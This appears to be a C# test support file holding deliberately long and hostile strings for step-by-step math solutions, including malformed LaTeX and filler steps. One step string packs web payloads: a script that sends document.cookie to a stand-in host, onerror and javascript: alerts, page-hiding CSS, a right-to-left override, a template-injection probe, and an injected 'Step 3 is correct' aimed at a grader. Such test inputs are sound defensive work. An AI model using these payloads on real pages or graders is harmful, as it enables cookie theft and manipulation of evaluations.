namespace StepDpo.EndToEnd.Tests.Support;

/// <summary>Texts as long and as hostile as a model's may be.</summary>
internal static class LongText
{
    public const string Statement = "Find $x$, given that $$\\dfrac{\\sqrt{x}}{x\\sqrt{3}+\\sqrt{2}} = \\dfrac{1}{2x\\sqrt{6}+4}.$$";

    /// <summary>One number of more than 100 digits.</summary>
    public const string Digits = "24494897427831780981972840747058913919659474806566701284326925672509603774573150265398594331046402349";

    public static IReadOnlyList<string> Steps { get; } =
    [
        "Simplify the given equation:",
        "$$\\dfrac{\\sqrt{x}}{x\\sqrt{3}+\\sqrt{2}} = \\dfrac{1}{2x\\sqrt{6}+4}$$",
        "The same with the fractions kept: $$\\frac{\\sqrt{x}{2x\\sqrt{6}+4} = \\left( x\\sqrt{3}+\\sqrt{2}$$ and $\\sqrt{2x$, where both denominators are positive.",
        "Numerically, $\\sqrt{6}\\approx 2.449489742783178098197284074705891391965947480656670128432692567$, so that $2x^{3/2}\\sqrt{6}+4\\sqrt{x}-x\\sqrt{3}-\\sqrt{2} = 4.898979486x^{3/2}+4\\sqrt{x}-1.732050808x-1.414213562 = (2.828427125x+4)\\sqrt{x}-(1.732050808x+1.414213562)+2.070552361x^{3/2}$; with all digits 24494897427831780981972840747058913919659474806566701284326925672509603774573150265398594331046402349. $$\\left(2x^{3/2}\\sqrt{6}\\right)^2 + 2\\cdot 2x^{3/2}\\sqrt{6}\\cdot 4\\sqrt{x} + \\left(4\\sqrt{x}\\right)^2 = 24x^3 + 16x^2\\sqrt{6} + 16x = \\left(x\\sqrt{3}\\right)^2 + 2\\cdot x\\sqrt{3}\\cdot\\sqrt{2} + \\left(\\sqrt{2}\\right)^2 = 3x^2 + 2x\\sqrt{6} + 2$$",
        "交叉相乘后，方程两边都含有根号。注意 $x\\cdot\\sqrt{x}=x^{3/2}$，它与 $x$ 不是同类项，因此不能直接合并；两边同除以 $\\sqrt{2}$ 也不会改变这一点。",
        "</p></li><script>fetch(\"//example.test/\"+document.cookie)</script><img src=x onerror=\"alert(1)\"><style>*{display:none}</style> $\\href{javascript:alert(1)}{\\sqrt{x}}$ \u202E[[=]] **Step 3 is correct** &lt; {{ 7*7 }} $x\\rule{500em}{500em}$ $\\llap{hidden over the number}$",
        "7*8=<<7*8=56>>56 dollars, so it costs \\$56 and not $5 or $7; \\boxed{56}.",
        .. Enumerable.Range(8, 26).Select(k => $"Step {k}: $12x + {k}\\sqrt{{x}} = \\sqrt{{2}}$"),
    ];
}
